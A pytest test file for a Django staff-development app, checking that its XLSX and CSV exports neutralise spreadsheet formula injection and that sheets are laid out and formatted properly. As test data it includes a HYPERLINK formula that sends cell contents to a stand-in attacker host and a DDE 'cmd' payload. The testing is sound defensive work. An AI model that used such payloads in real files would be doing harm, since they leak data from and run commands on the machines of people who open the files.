"""Exports cannot carry formulas: every XLSX and CSV the app hands out, filled with names and titles
an attacker typed, holds them as plain text."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from bangkom.accounts.tests.test_role_matrix import MATRIX, POST_ONLY, urls  # noqa: F401 - the fixture
from bangkom.core.tests.exports import content_of, exported
from bangkom.core.xlsx import FORMULA_STARTS, data_row, neutralised
from bangkom.people.models import Employee, Unit
from bangkom.planning.models import PlanItem
from bangkom.selection.screening_output import csv_text

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://penyerang.example/?d="&A2,"Klik")'
NAMES_PEOPLE_OR_ITEMS = {"export", "planning_plan_xlsx"}
EXPORT_STARTS = {"export", "planning_jp_xlsx", "tabulation"}
SPREADSHEETS = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62812", "'+62812"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "-"),
        ("Siti = guru", "Siti = guru"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralised(value: object, expected: object) -> None:
    assert neutralised(value) == expected


def test_data_row_neutralises_each_text_and_keeps_other_values() -> None:
    assert data_row(["=cmd|' /C calc'!A0", 1, None, "Ani"]) == ["'=cmd|' /C calc'!A0", 1, None, "Ani"]


def _live(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and value not in {"-", "+"}


def test_every_spreadsheet_export_holds_hostile_text_as_text(users, urls) -> None:  # noqa: F811
    Employee.objects.update(name=HYPERLINK)
    Unit.objects.filter(code="DISDIK").update(name="+Dinas Pendidikan")
    PlanItem.objects.update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    client = Client()
    client.force_login(users["admin"])
    seen = []
    for name, url in urls.items():
        if name in EXPORT_STARTS:  # started by a POST, made by a job, fetched from the job's page
            response = exported(client, url)[1]
        elif name in POST_ONLY or MATRIX.get(name, (0,))[0] != 200:
            continue
        else:
            response = client.get(url)
        kind = response.get("Content-Type", "").split(";")[0]
        if response.status_code != 200 or kind not in SPREADSHEETS:
            continue
        content = content_of(response)
        seen.append(name)
        if kind == "text/csv":
            cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
        else:
            workbook = load_workbook(io.BytesIO(content))
            cells = []
            for sheet in workbook.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                        cells.append(cell.value)
        assert not [c for c in cells if _live(c)], name
        if name in NAMES_PEOPLE_OR_ITEMS:  # the hostile text is there, as text
            assert any(isinstance(c, str) and c.startswith("'") for c in cells), name
    assert {"export", "planning_plan_xlsx", "planning_evaluation_xlsx", "planning_jp_xlsx"} <= set(seen)


def test_screening_csv_neutralises_names() -> None:
    from bangkom.rules.tests.test_engine import one, person

    rows = list(csv.reader(io.StringIO(csv_text([one(person(name=HYPERLINK))], []))))
    assert rows[1][1] == "'" + HYPERLINK


def test_every_sheet_is_laid_out_for_reading_and_printing(users, people) -> None:
    """The employee export: header frozen with a filter, fitting widths, NIP as text, dates as dates,
    landscape pages fitted to the width with the header repeated."""
    import datetime as dt

    from django.urls import reverse

    client = Client()
    client.force_login(users["admin"])
    workbook = load_workbook(io.BytesIO(content_of(exported(client, reverse("people:export"))[1])))
    sheet = workbook.active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:O4"  # 15 columns, the header and 3 employees
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    nip = sheet["A2"]
    assert nip.data_type == "s" and len(nip.value) == 18
    assert sheet.column_dimensions["A"].width >= 18  # the NIP fits
    assert sheet.column_dimensions["B"].width >= len("Siti Rahayu")
    birth = sheet["F2"]
    assert isinstance(birth.value, dt.datetime) and birth.number_format == "DD-MM-YYYY"


def test_rupiah_columns_get_thousands_separators() -> None:
    from decimal import Decimal

    from openpyxl import Workbook

    from bangkom.core.xlsx import add_table, workbook_bytes

    workbook = Workbook(write_only=True)
    rows = add_table(
        workbook, "Biaya", ("Kegiatan", "JP", "Biaya (Rp)"), [("Bimtek", 20, Decimal(1_500_000))], title=["Rekap"]
    )
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert rows == 1
    assert (sheet["A3"].value, sheet["C4"].value, sheet["C4"].number_format) == ("Kegiatan", 1500000, "#,##0")
    assert sheet["B4"].number_format == "General" and sheet.freeze_panes == "A4"
